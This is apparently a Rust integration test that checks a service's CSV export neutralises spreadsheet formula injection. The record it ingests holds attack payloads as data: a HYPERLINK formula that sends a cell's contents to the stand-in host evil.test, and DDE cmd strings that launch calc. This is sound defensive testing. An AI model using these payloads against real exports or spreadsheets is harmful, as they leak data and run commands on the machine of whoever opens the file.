//! The CSV export never hands a spreadsheet a formula (issue 25): a record ingested
//! through the real ingest route with text starting `=`, `+`, `-` or `@` comes out of
//! `Accept: text/csv` as a quoted cell with a leading `'`, while the JSON answer keeps the
//! raw value. On SQLite (the database plays no part).

use reqwest::Client;
use serde_json::{json, Value};

use crate::harness::*;

/// Characters a spreadsheet reads as the start of a formula (OWASP, CSV injection).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Parses RFC 4180 CSV (quoted fields with `""`, CRLF records) into rows of cells, each
/// with whether it was quoted.
fn parse_csv(text: &str) -> Vec<Vec<(String, bool)>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut chars = text.chars().peekable();
    loop {
        let mut cell = String::new();
        let quoted = chars.peek() == Some(&'"');
        if quoted {
            chars.next();
            loop {
                match chars.next().expect("unterminated quoted field") {
                    '"' if chars.peek() == Some(&'"') => {
                        chars.next();
                        cell.push('"');
                    }
                    '"' => break,
                    c => cell.push(c),
                }
            }
        }
        while let Some(&c) = chars.peek() {
            if c == ',' || c == '\r' {
                break;
            }
            assert!(!quoted, "text after a closing quote");
            cell.push(c);
            chars.next();
        }
        row.push((cell, quoted));
        match chars.next() {
            Some(',') => continue,
            Some('\r') => {
                assert_eq!(chars.next(), Some('\n'), "CRLF");
                rows.push(std::mem::take(&mut row));
                if chars.peek().is_none() {
                    return rows;
                }
            }
            other => panic!("a record must end with CRLF, found {other:?}"),
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_export_neutralises_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let s = Server::start(&format!("sqlite://{}", dir.path().join("l.db").display()));
    let c = Client::new();
    // What an unauthenticated client can put in a refused request's record.
    let hyperlink = r#"=HYPERLINK("https://evil.test/?leak="&A1,"Click here")"#;
    let record = json!({
        "id": "-req-1",
        "time": now(),
        "decision": "rejected",
        "reason": "invalid_scope",
        "subject": "+cmd|' /C calc'!A0",
        "client_id": "-2+3",
        "plan": "@SUM(A1:A9)",
        "tenant": "=1+1",
        "license": " =1 stays as it is",
        "service": hyperlink,
        "requested": ["@cmd|'/Ccalc'!A0:x:pull"],
        "granted": [],
        "gateway": "gw-1",
    });
    let resp = c
        .post(s.url("/v1/ingest"))
        .bearer_auth(INGEST_SECRET)
        .json(&json!({"records": [record]}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200, "{}", resp.text().await.unwrap());

    for path in ["/v1/issuances?limit=10", "/v1/issuances/-req-1"] {
        let resp = c
            .get(s.url(path))
            .bearer_auth(admin_token())
            .header("accept", "text/csv")
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 200, "{path}");
        let text = resp.text().await.unwrap();
        let rows = parse_csv(&text);
        assert_eq!(rows.len(), 2, "{path}: header and one row: {text}");
        for (i, (cell, _)) in rows.iter().flatten().enumerate() {
            assert!(
                !cell.starts_with(FORMULA_START),
                "{path}: cell {i} starts a formula: {cell:?} in {text}"
            );
        }
        let header: Vec<&str> = rows[0].iter().map(|(c, _)| c.as_str()).collect();
        let cell = |name: &str| {
            let i = header.iter().position(|h| *h == name).unwrap();
            rows[1][i].clone()
        };
        for (name, raw) in [
            ("id", "-req-1"),
            ("subject", "+cmd|' /C calc'!A0"),
            ("client_id", "-2+3"),
            ("plan", "@SUM(A1:A9)"),
            ("tenant", "=1+1"),
            ("service", hyperlink),
            ("requested", "@cmd|'/Ccalc'!A0:x:pull"),
        ] {
            assert_eq!(
                cell(name),
                (format!("'{raw}"), true),
                "{path}: {name}: a quote-prefixed, quoted cell"
            );
        }
        assert_eq!(cell("license").0, " =1 stays as it is");
        assert_eq!(cell("reason"), ("invalid_scope".to_string(), false));
    }

    // JSON keeps the raw values.
    let resp = c
        .get(s.url("/v1/issuances/-req-1"))
        .bearer_auth(admin_token())
        .send()
        .await
        .unwrap();
    let body: Value = resp.json().await.unwrap();
    assert_eq!(body["service"], hyperlink);
    assert_eq!(body["subject"], "+cmd|' /C calc'!A0");
    assert_eq!(body["id"], "-req-1");
    assert_eq!(body["requested"], json!(["@cmd|'/Ccalc'!A0:x:pull"]));
}
